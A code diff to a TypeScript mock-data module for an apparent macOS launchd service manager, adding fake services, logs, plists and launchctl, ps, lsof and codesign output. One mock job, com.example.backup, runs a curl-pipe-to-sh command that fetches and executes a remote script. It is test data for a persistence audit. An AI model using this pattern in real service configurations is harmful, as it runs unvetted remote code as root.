@@ -3,7 +3,10 @@
  * Simulates realistic macOS service data
  */
 
-import type { Service, SystemExtension } from "../types";
+import type { LogEntry, LogLevel, ProcessInfo, ProcessSample, Service, SystemExtension } from "../types";
+import type { CommandResult } from "./launchctl/types";
+import type { AuditFileSystem } from "./persistence";
+import type { PlistDict } from "./plist";
 
 export function getMockServices(): Service[] {
 	const services: Service[] = [
@@ -109,6 +112,20 @@ export function getMockServices(): Service[] {
 			protection: "normal",
 			plistPath: "/Library/LaunchDaemons/org.postgresql.postgres.plist",
 			description: "PostgreSQL Database Server",
+			plistLint: [
+				{
+					rule: "log-dir-missing",
+					severity: "error",
+					key: "StandardErrorPath",
+					message: "Directory /usr/local/var/log/postgres does not exist (launchd will not create it)",
+				},
+				{
+					rule: "unknown-key",
+					severity: "info",
+					key: "RunAtBoot",
+					message: 'Unknown key "RunAtBoot" (ignored by launchd, possibly a typo)',
+				},
+			],
 			enabled: false,
 			isAppleService: false,
 			requiresRoot: true,
@@ -296,6 +313,33 @@ export function getMockServices(): Service[] {
 			isAppleService: false,
 			requiresRoot: false,
 		},
+		// Installed but never bootstrapped
+		{
+			id: "gui-homebrew.mxcl.memcached",
+			label: "homebrew.mxcl.memcached",
+			displayName: "memcached",
+			type: "LaunchAgent",
+			domain: "gui",
+			status: "not-loaded",
+			protection: "normal",
+			plistPath: "~/Library/LaunchAgents/homebrew.mxcl.memcached.plist",
+			enabled: true,
+			isAppleService: false,
+			requiresRoot: false,
+		},
+		{
+			id: "system-com.example.backup",
+			label: "com.example.backup",
+			displayName: "backup",
+			type: "LaunchDaemon",
+			domain: "system",
+			status: "not-loaded",
+			protection: "normal",
+			plistPath: "/Library/LaunchDaemons/com.example.backup.plist",
+			enabled: true,
+			isAppleService: false,
+			requiresRoot: true,
+		},
 	];
 
 	// Add System Extensions
@@ -372,3 +416,336 @@ export function getMockServices(): Service[] {
 
 	return [...services, ...systemExtensions];
 }
+
+const MOCK_LOG_MESSAGES: Array<{ level: LogLevel; message: string }> = [
+	{ level: "default", message: "Service started" },
+	{ level: "info", message: "Loaded configuration" },
+	{ level: "debug", message: "Polling for work" },
+	{ level: "default", message: "Accepted connection" },
+	{ level: "error", message: "Request failed: connection reset by peer" },
+	{ level: "info", message: "Flushed 12 records" },
+	{ level: "fault", message: "Unexpected state transition" },
+];
+
+/**
+ * Create a mock log entry for a service
+ */
+export function getMockLogEntry(service: Service, index: number, date: Date = new Date()): LogEntry {
+	const template = MOCK_LOG_MESSAGES[index % MOCK_LOG_MESSAGES.length] ?? { level: "default", message: "" };
+	const pad = (n: number, width = 2) => String(n).padStart(width, "0");
+	const timestamp = `${date.getFullYear()}-${pad(date.getMonth() + 1)}-${pad(date.getDate())} ${pad(date.getHours())}:${pad(date.getMinutes())}:${pad(date.getSeconds())}.${pad(date.getMilliseconds(), 3)}`;
+
+	return {
+		timestamp,
+		level: template.level,
+		process: service.displayName,
+		pid: service.pid,
+		subsystem: service.label,
+		message: template.message,
+	};
+}
+
+/**
+ * Mock log history for a service (one entry per minute)
+ */
+export function getMockLogEntries(service: Service, count = 40): LogEntry[] {
+	const now = Date.now();
+	return Array.from({ length: count }, (_, i) =>
+		getMockLogEntry(service, i, new Date(now - (count - i) * 60_000)),
+	);
+}
+
+/**
+ * Mock plist contents for a service, built from its mock metadata
+ */
+/** Schedules of the mock updaters and backup jobs, so the schedule timeline has runs to show */
+const MOCK_SCHEDULES: Record<string, PlistDict> = {
+	"com.adobe.agsservice": { StartCalendarInterval: { Hour: 3, Minute: 0 } },
+	"com.microsoft.autoupdate.helper": {
+		StartCalendarInterval: [1, 2, 3, 4, 5].map((Weekday) => ({ Weekday, Hour: 3, Minute: 0 })),
+	},
+	"com.google.keystone.agent": { StartInterval: 3600 },
+	"com.dropbox.DropboxMacUpdate.agent": { StartCalendarInterval: { Hour: 3, Minute: 0 } },
+	"com.example.backup": {
+		StartCalendarInterval: [
+			{ Hour: 3, Minute: 0 },
+			{ Hour: 15, Minute: 0 },
+		],
+	},
+};
+
+/** Mock jobs that run something other than /usr/local/bin/<name>, so the persistence audit has findings */
+const MOCK_PROGRAM_ARGUMENTS: Record<string, string[]> = {
+	"com.example.backup": ["/bin/sh", "-c", "curl -fsSL https://backup.example.com/run.sh | sh"],
+};
+
+export function getMockPlist(service: Service): PlistDict {
+	const plist: PlistDict = {
+		Label: service.label,
+		ProgramArguments: service.plistMetadata?.programArguments ??
+			MOCK_PROGRAM_ARGUMENTS[service.label] ?? [`/usr/local/bin/${service.displayName}`],
+		RunAtLoad: true,
+		KeepAlive: service.status === "running",
+	};
+	if (service.plistMetadata?.standardOutPath) plist.StandardOutPath = service.plistMetadata.standardOutPath;
+	if (service.plistMetadata?.standardErrorPath)
+		plist.StandardErrorPath = service.plistMetadata.standardErrorPath;
+	plist.EnvironmentVariables = { PATH: "/usr/local/bin:/usr/bin:/bin" };
+	return { ...plist, ...MOCK_SCHEDULES[service.label] };
+}
+
+/**
+ * Mock `launchctl print` output for a service, in the macOS 14 layout
+ */
+export function getMockPrintOutput(service: Service): string {
+	const domain = service.domain === "system" ? "system" : "gui/501";
+	const running = service.status === "running";
+	const program = service.plistMetadata?.program ?? `/usr/local/bin/${service.displayName}`;
+	const lastExit =
+		service.exitStatus === undefined
+			? "(never exited)"
+			: service.exitStatus === 78
+				? "78: EX_CONFIG"
+				: String(service.exitStatus);
+
+	return [
+		`${domain}/${service.label} = {`,
+		"\tactive count = 1",
+		`\tpath = ${service.plistPath ?? `/Library/LaunchDaemons/${service.label}.plist`}`,
+		`\ttype = ${service.type}`,
+		`\tstate = ${running ? "running" : "not running"}`,
+		"",
+		`\tprogram = ${program}`,
+		"\targuments = {",
+		`\t\t${program}`,
+		"\t}",
+		"",
+		"\tdefault environment = {",
+		"\t\tPATH => /usr/bin:/bin:/usr/sbin:/sbin",
+		"\t}",
+		"",
+		`\tdomain = ${domain} [100005]`,
+		"\tminimum runtime = 10",
+		"\texit timeout = 5",
+		`\truns = ${running ? 3 : 1}`,
+		...(running ? [`\tpid = ${service.pid ?? 0}`, "\timmediate reason = speculative"] : []),
+		"\tforks = 0",
+		"\texecs = 1",
+		`\tlast exit code = ${lastExit}`,
+		...(service.exitStatus ? ["\tlast terminating signal = Terminated: 15"] : []),
+		"",
+		"\tendpoints = {",
+		`\t\t"${service.label}.xpc" = {`,
+		"\t\t\tport = 0x1a403",
+		"\t\t\tactive = 1",
+		"\t\t\tmanaged = 1",
+		"\t\t}",
+		"\t}",
+		"",
+		`\tspawn type = ${service.type === "LaunchDaemon" ? "daemon (3)" : "interactive (4)"}`,
+		"\tjetsam priority = 40",
+		`\tproperties = inferred program${running ? "" : " | inefficient"}`,
+		"}",
+		"",
+	].join("\n");
+}
+
+/** When the mock processes "started", so uptime grows while the app runs */
+const MOCK_PROCESS_EPOCH = Date.now();
+
+/**
+ * Mock `ps` samples for running services
+ * Each PID gets a stable baseline with some jitter so sparklines have something to show
+ */
+export function getMockProcessSamples(pids: number[], now: number = Date.now()): ProcessSample[] {
+	return pids.map((pid) => {
+		const baseCpu = (pid % 7) * 2.5;
+		const baseRss = 8_192 + (pid % 13) * 24_576;
+		return {
+			pid,
+			cpu: Math.round(Math.max(0, baseCpu + (Math.random() - 0.5) * 4) * 10) / 10,
+			rss: Math.round(baseRss * (0.95 + Math.random() * 0.1)),
+			uptime: Math.floor((now - MOCK_PROCESS_EPOCH) / 1000) + (pid % 97) * 3_600,
+			threads: 1 + (pid % 11),
+		};
+	});
+}
+
+/**
+ * Mock `ps` process list below a service's PID: a wrapper that forks two workers,
+ * one of which runs a helper
+ */
+export function getMockProcessList(service: Service): ProcessInfo[] {
+	if (!service.pid) return [];
+	const { pid } = service;
+	const uid = service.domain === "system" ? 0 : 501;
+	const program = service.plistMetadata?.program ?? `/usr/local/bin/${service.displayName}`;
+
+	return [
+		{ pid: 1, ppid: 0, uid: 0, command: "/sbin/launchd" },
+		{ pid, ppid: 1, uid, command: `/bin/sh ${program}-wrapper.sh` },
+		{ pid: pid + 1, ppid: pid, uid, command: `${program} --worker 1` },
+		{ pid: pid + 2, ppid: pid, uid, command: `${program} --worker 2` },
+		{ pid: pid + 3, ppid: pid + 2, uid, command: `${program}-helper --parent ${pid + 2}` },
+	];
+}
+
+/**
+ * Mock `lsof -F pftPnT` output for a running service: a listening TCP port derived
+ * from the PID, a client connection, a UDP socket and a Unix socket
+ */
+export function getMockLsofOutput(service: Service): string {
+	if (!service.pid) return "";
+	const { pid } = service;
+	const port = 8000 + (pid % 1000);
+
+	return [
+		`p${pid}`,
+		"f3",
+		"tREG",
+		`n/usr/local/var/log/${service.displayName}.log`,
+		"f5",
+		"tIPv4",
+		"PTCP",
+		`n*:${port}`,
+		"TST=LISTEN",
+		"TQR=0",
+		"TQS=0",
+		"f6",
+		"tIPv6",
+		"PTCP",
+		`n[::1]:${port}`,
+		"TST=LISTEN",
+		"f7",
+		"tIPv4",
+		"PTCP",
+		`n127.0.0.1:${port}->127.0.0.1:52114`,
+		"TST=ESTABLISHED",
+		"f8",
+		"tIPv4",
+		"PUDP",
+		"n*:5353",
+		`p${pid + 1}`,
+		"f4",
+		"tunix",
+		`n/tmp/${service.label}.sock`,
+		"",
+	].join("\n");
+}
+
+/** Programs of the mock services that are "uninstalled", leaving their plist behind */
+const MOCK_MISSING_PROGRAMS = new Set(["/usr/local/bin/memcached"]);
+
+/** Mock programs built locally by Homebrew, which are ad-hoc signed */
+const MOCK_ADHOC_PROGRAMS = new Set(["/usr/local/bin/redis", "/usr/local/bin/mysql"]);
+
+/**
+ * Mock file system for the persistence audit: everything exists and belongs to root,
+ * except files in the home directory
+ */
+export function getMockAuditFileSystem(): AuditFileSystem {
+	return {
+		exists: (path) => !MOCK_MISSING_PROGRAMS.has(path),
+		stat: (path) => {
+			if (MOCK_MISSING_PROGRAMS.has(path)) return null;
+			return path.startsWith("~/") || path.startsWith("/Users/")
+				? { uid: 501, mode: 0o100644 }
+				: { uid: 0, mode: 0o100755 };
+		},
+	};
+}
+
+/** Mock vendors signing more than one program, so the team filter has something to group */
+const MOCK_VENDORS: Record<string, { name: string; teamId: string }> = {
+	vmnetd: { name: "Docker Inc", teamId: "9BNSXJN65R" },
+	"docker.helper": { name: "Docker Inc", teamId: "9BNSXJN65R" },
+};
+
+/** Mock programs signed with a Developer ID before notarization was required */
+const MOCK_UNNOTARIZED_PROGRAMS = new Set(["/usr/local/bin/agsservice"]);
+
+/**
+ * Mock signing vendor of a program: a known vendor, or a team ID derived from the file name
+ */
+function getMockVendor(name: string): { name: string; teamId: string } {
+	return (
+		MOCK_VENDORS[name] ?? {
+			name,
+			teamId: [...name]
+				.reduce((hash, char) => (hash * 31 + char.charCodeAt(0)) % 36 ** 8, 7)
+				.toString(36)
+				.toUpperCase()
+				.padStart(10, "0"),
+		}
+	);
+}
+
+/**
+ * Mock `codesign -dvvv` result: Apple platform binaries, ad-hoc Homebrew builds, and
+ * Developer ID signed vendor programs with the hardened runtime
+ */
+export function getMockCodesignResult(path: string): CommandResult {
+	const name = path.slice(path.lastIndexOf("/") + 1);
+	if (MOCK_MISSING_PROGRAMS.has(path)) {
+		return { stdout: "", stderr: `${path}: No such file or directory\n`, exitCode: 1 };
+	}
+
+	const lines = [`Executable=${path}`];
+	if (path.startsWith("/bin/") || path.startsWith("/usr/bin/")) {
+		lines.push(
+			`Identifier=com.apple.${name}`,
+			"Format=Mach-O universal (x86_64 arm64e)",
+			"CodeDirectory v=20400 size=1234 flags=0x0(none) hashes=28+2 location=embedded",
+			"Platform identifier=15",
+			"Signature size=4442",
+			"Authority=Software Signing",
+			"Authority=Apple Code Signing Certification Authority",
+			"Authority=Apple Root CA",
+			"Signed Time=Nov 2, 2024 at 08:14:11",
+			"TeamIdentifier=not set",
+		);
+	} else if (MOCK_ADHOC_PROGRAMS.has(path)) {
+		lines.push(
+			`Identifier=${name}`,
+			"Format=Mach-O thin (arm64)",
+			"CodeDirectory v=20400 size=9120 flags=0x20002(adhoc,linker-signed) hashes=282+0 location=embedded",
+			"Signature=adhoc",
+			"TeamIdentifier=not set",
+		);
+	} else {
+		const vendor = getMockVendor(name);
+		const hardened = !MOCK_UNNOTARIZED_PROGRAMS.has(path);
+		lines.push(
+			`Identifier=${name}`,
+			"Format=Mach-O universal (x86_64 arm64)",
+			`CodeDirectory v=20500 size=4012 flags=${hardened ? "0x10000(runtime)" : "0x0(none)"} hashes=114+7 location=embedded`,
+			"Signature size=8987",
+			`Authority=Developer ID Application: ${vendor.name} (${vendor.teamId})`,
+			"Authority=Developer ID Certification Authority",
+			"Authority=Apple Root CA",
+			"Timestamp=Mar 14, 2025 at 17:02:45",
+			`TeamIdentifier=${vendor.teamId}`,
+		);
+	}
+	lines.push("Sealed Resources=none", "Internal requirements count=1 size=180");
+	return { stdout: "", stderr: `${lines.join("\n")}\n`, exitCode: 0 };
+}
+
+/**
+ * Mock `spctl --assess -vv` result for a signed program
+ */
+export function getMockSpctlResult(path: string): CommandResult {
+	if (path.startsWith("/bin/") || path.startsWith("/usr/bin/")) {
+		return {
+			stdout: "",
+			stderr: `${path}: accepted\nsource=Apple System\norigin=Software Signing\n`,
+			exitCode: 0,
+		};
+	}
+	const vendor = getMockVendor(path.slice(path.lastIndexOf("/") + 1));
+	const origin = `origin=Developer ID Application: ${vendor.name} (${vendor.teamId})`;
+	if (MOCK_UNNOTARIZED_PROGRAMS.has(path)) {
+		return { stdout: "", stderr: `${path}: accepted\nsource=Developer ID\n${origin}\n`, exitCode: 0 };
+	}
+	return { stdout: "", stderr: `${path}: accepted\nsource=Notarized Developer ID\n${origin}\n`, exitCode: 0 };
+}